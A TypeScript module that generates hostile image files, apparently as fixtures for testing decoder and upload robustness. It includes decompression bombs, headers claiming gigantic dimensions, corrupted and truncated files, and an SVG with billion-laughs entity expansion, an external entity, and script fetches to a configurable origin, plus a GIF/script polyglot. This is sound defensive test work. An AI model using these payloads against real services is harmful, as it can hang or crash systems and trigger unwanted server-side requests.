import { crc32, deflateSync } from "node:zlib";

const pngSignature = Buffer.from("\x89PNG\r\n\x1a\n", "latin1");

function chunk(type: string, data: Uint8Array): Buffer {
  const body = Buffer.concat([Buffer.from(type, "latin1"), data]);
  return Buffer.concat([bigEndian(data.length), body, bigEndian(crc32(body))]);
}

function bigEndian(...values: readonly number[]): Buffer {
  const bytes = Buffer.alloc(values.length * 4);
  for (const [index, value] of values.entries()) bytes.writeUInt32BE(value >>> 0, index * 4);
  return bytes;
}

function header(width: number, height: number, kind: readonly number[] = [1, 0, 0, 0, 0]): Buffer {
  return chunk("IHDR", Buffer.concat([bigEndian(width, height), Buffer.from(kind)]));
}

/** A PNG of one black pixel per bit: as large as is wanted, in next to no bytes. */
function png(width: number, height: number, ...before: readonly Buffer[]): Buffer {
  const rows = deflateSync(Buffer.alloc(height * (1 + Math.ceil(width / 8))));
  const end = chunk("IEND", Buffer.alloc(0));
  return Buffer.concat([pngSignature, header(width, height), ...before, chunk("IDAT", rows), end]);
}

/** The same with a header that promises something else. */
function claiming(image: Buffer, width: number, height: number): Buffer {
  return Buffer.concat([pngSignature, header(width, height), image.subarray(33)]);
}

function animatedPng(frames: number): Buffer {
  const pixel = deflateSync(Buffer.alloc(2));
  const parts = Array.from({ length: frames }, (_, at) => [
    chunk("fcTL", Buffer.concat([bigEndian(at * 2, 1, 1, 0, 0), Buffer.alloc(6)])),
    chunk("fdAT", Buffer.concat([bigEndian(at * 2 + 1), pixel])),
  ]);
  return png(1, 1, chunk("acTL", bigEndian(frames, 0)), ...parts.flat());
}

const gifPixel = Buffer.from([0x2c, 0, 0, 0, 0, 1, 0, 1, 0, 0, 2, 2, 0x44, 1, 0]);

function gif(width: number, height: number, frames: number): Buffer {
  const head = Buffer.from("GIF89a....\x80\0\0\0\0\0\xff\xff\xff", "latin1");
  head.writeUInt16LE(width, 6);
  head.writeUInt16LE(height, 8);
  return Buffer.concat([head, ...Array.from({ length: frames }, () => gifPixel), Buffer.from([0x3b])]);
}

function bmp(width: number, height: number, compression: number, content: Buffer): Buffer {
  const head = Buffer.alloc(54);
  head.write("BM", "latin1");
  head.writeUInt32LE(54 + content.length, 2);
  head.writeUInt32LE(54, 10);
  head.writeUInt32LE(40, 14);
  head.writeInt32LE(width, 18);
  head.writeInt32LE(height, 22);
  head.writeUInt16LE(1, 26);
  head.writeUInt16LE(compression === 0 ? 24 : 8, 28);
  head.writeUInt32LE(compression, 30);
  return Buffer.concat([head, content]);
}

function webp(kind: string, payload: Buffer, claimed = payload.length): Buffer {
  const head = Buffer.from("RIFF....WEBP........", "latin1");
  head.writeUInt32LE((12 + claimed) >>> 0, 4);
  head.write(kind, 12, "latin1");
  head.writeUInt32LE(claimed >>> 0, 16);
  return Buffer.concat([head, payload]);
}

function jpeg(width: number, height: number, rest: Buffer): Buffer {
  const frame = Buffer.from([
    0xff,
    0xc0,
    0,
    11,
    8,
    height >> 8,
    height & 255,
    width >> 8,
    width & 255,
    1,
    1,
    17,
    0,
  ]);
  return Buffer.concat([Buffer.from([0xff, 0xd8]), frame, rest]);
}

function avif(width: number, height: number): Buffer {
  const property = Buffer.concat([bigEndian(20), Buffer.from("ispe"), bigEndian(0, width, height)]);
  const box = Buffer.concat([bigEndian(8 + property.length), Buffer.from("ipco"), property]);
  return Buffer.concat([bigEndian(24), Buffer.from("ftypavif"), bigEndian(0), Buffer.from("avifmif1"), box]);
}

/** Bytes that look like nothing, always the same. */
function noise(length: number): Buffer {
  const bytes = Buffer.alloc(length);
  let state = 1;
  for (let index = 0; index < length; index += 1) {
    state = (Math.imul(state, 1_103_515_245) + 12_345) >>> 0;
    bytes[index] = state >>> 16;
  }
  return bytes;
}

/** SVG that acts: script, foreign content, addresses, and entities that grow. Each way leads to `origin`. */
function drawing(origin: string): string {
  const laughs = Array.from({ length: 9 }, (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`).join(
    "",
  );
  return `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY l0 "ha">${laughs}<!ENTITY x SYSTEM "${origin}/entity">]>
    <svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="fetch('${origin}/load')">
    <script>fetch("${origin}/script")</script><script xlink:href="${origin}/script.js"/>
    <image href="${origin}/image.png" width="9" height="9"/><use href="${origin}/use.svg#a"/>
    <style>@import url("${origin}/style.css"); text { font-family: url("${origin}/font") }</style>
    <foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="${origin}/frame"/></foreignObject>
    ${"<g>".repeat(5_000)}${"</g>".repeat(5_000)}<text>&l9;&x;</text></svg>`;
}

/** Files by name that pretend to be pictures and are meant to hang, fill or crash whoever decodes them. */
export function hostileImages(origin: string): ReadonlyMap<string, Uint8Array> {
  const plain = png(64, 64);
  const profile = Buffer.concat([Buffer.from("x\0\0"), deflateSync(Buffer.alloc(64 * 1024 * 1024))]);
  const files: Record<string, Uint8Array | string> = {
    "png claims 50,000 square.png": claiming(plain, 50_000, 50_000),
    "png claims 4 billion.png": claiming(plain, 0xffffffff, 0xffffffff),
    "png claims nothing.png": claiming(plain, 0, 0),
    "png is 63 megapixels.png": png(8_000, 7_900),
    "png is a line.png": png(16_384, 1),
    "png profile of 64 MB.png": png(8, 8, chunk("iCCP", profile)),
    "png text of 64 MB.png": png(8, 8, chunk("zTXt", profile)),
    "png of 10,000 frames.png": animatedPng(10_000),
    "png has a wrong sum.png": Buffer.from(plain.map((byte, at) => (at === 40 ? byte ^ 255 : byte))),
    "png of unknown kind.png": Buffer.concat([
      pngSignature,
      header(9, 9, [99, 9, 9, 9, 9]),
      plain.subarray(33),
    ]),
    "gif claims 65,535 square.gif": gif(65_535, 65_535, 1),
    "gif of 10,000 frames.gif": gif(1, 1, 10_000),
    "gif is 60 megapixels of nothing.gif": gif(8_000, 7_500, 1),
    "bmp stands on its head.bmp": bmp(100, -0x7fffffff, 0, noise(300)),
    "bmp never ends its lines.bmp": bmp(4_000, 4_000, 1, Buffer.alloc(100_000, 2)),
    "bmp claims 60 megapixels.bmp": bmp(8_000, 7_500, 0, noise(1_000)),
    "webp claims 16,384 square.webp": webp("VP8X", Buffer.from([0, 0, 0, 0, 255, 63, 0, 255, 63, 0])),
    "webp claims 4 GB.webp": webp(
      "VP8L",
      Buffer.concat([Buffer.from([0x2f, 255, 1, 1, 0]), noise(5_000)]),
      0xffffffff,
    ),
    "webp is noise.webp": webp(
      "VP8L",
      Buffer.concat([Buffer.from([0x2f, 255, 0xc1, 0x3f, 0]), noise(50_000)]),
    ),
    "webp lossy noise.webp": webp(
      "VP8 ",
      Buffer.concat([Buffer.from([0, 0, 0, 0x9d, 1, 0x2a, 0, 16, 0, 16]), noise(50_000)]),
    ),
    "jpeg claims 65,535 square.jpg": jpeg(65_535, 65_535, noise(500)),
    "jpeg claims 60 megapixels.jpg": jpeg(8_000, 7_500, noise(50_000)),
    "jpeg of markers.jpg": Buffer.concat([Buffer.from([0xff, 0xd8]), Buffer.alloc(1_000_000, 0xff)]),
    "jpeg of empty segments.jpg": Buffer.concat(
      [Buffer.from([0xff, 0xd8]), Buffer.from([0xff, 0xe0, 0, 2]).toString("latin1").repeat(100_000)].map(
        (part) => (typeof part === "string" ? Buffer.from(part, "latin1") : part),
      ),
    ),
    "avif claims 4 billion.avif": avif(0xffffffff, 0xffffffff),
    "avif is a header.avif": avif(8, 8),
    "icon.ico": Buffer.concat([Buffer.from([0, 0, 1, 0, 255, 255]), noise(1_000)]),
    "picture.tif": Buffer.concat([Buffer.from("II*\0\x08\0\0\0\xff\xff", "latin1"), noise(2_000)]),
    "drawing.svg": drawing(origin),
    "drawing as picture.png": drawing(origin),
    "page as picture.gif": `GIF89a/*<script>fetch("${origin}/polyglot")</script>*/`,
    "archive.webp": Buffer.concat([Buffer.from("PK\x03\x04"), noise(500)]),
    "nothing.png": "",
    "one byte.jpg": "\xff",
  };
  for (const part of [9, 20, 33, 50, plain.length - 5])
    files[`png cut at ${part}.png`] = plain.subarray(0, part);
  return new Map(
    Object.entries(files).map(([name, bytes]) => [
      name,
      typeof bytes === "string" ? Buffer.from(bytes, "latin1") : bytes,
    ]),
  );
}
